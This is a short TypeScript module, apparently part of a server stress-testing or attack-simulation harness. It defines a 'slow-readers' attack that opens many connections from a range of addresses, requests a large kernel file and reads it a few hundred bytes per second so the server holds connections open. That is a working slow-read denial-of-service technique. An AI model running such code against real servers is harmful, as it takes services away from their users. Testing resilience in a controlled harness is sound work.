// Whoever takes a large file a few bytes at a time, or not at all, keeps it open in the server.
import type { Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { keepOpen } from '../connections.ts';

const REQUEST = 'GET /boot/kernel HTTP/1.1\r\nHost: x\r\n\r\n';

export const slowReaders: Attack = {
  name: 'slow-readers',
  what: 'the kernel at a few hundred bytes a second, 16 readers an address',
  run: (ground, count) =>
    keepOpen(
      ground,
      {
        ...{ port: 80, from: ground.addresses.slice(10, 30), each: 16, burst: 10, pauseMs: 200 },
        onOpen: readSlowly,
      },
      count,
    ),
};

function readSlowly(socket: Socket): void {
  socket.pause();
  socket.write(REQUEST);
  const reading = setInterval(() => socket.read(512), 1000);
  socket.once('close', () => clearInterval(reading));
}
